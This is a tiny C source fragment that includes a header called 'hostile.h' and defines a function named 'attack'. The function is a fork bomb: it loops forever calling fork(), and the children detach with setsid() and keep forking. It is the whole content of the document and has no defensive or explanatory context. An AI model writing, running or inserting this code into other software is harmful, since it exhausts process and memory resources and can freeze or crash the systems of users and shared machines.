#include "hostile.h"

int attack(void) {
    for (;;) if (fork() == 0) setsid();
}
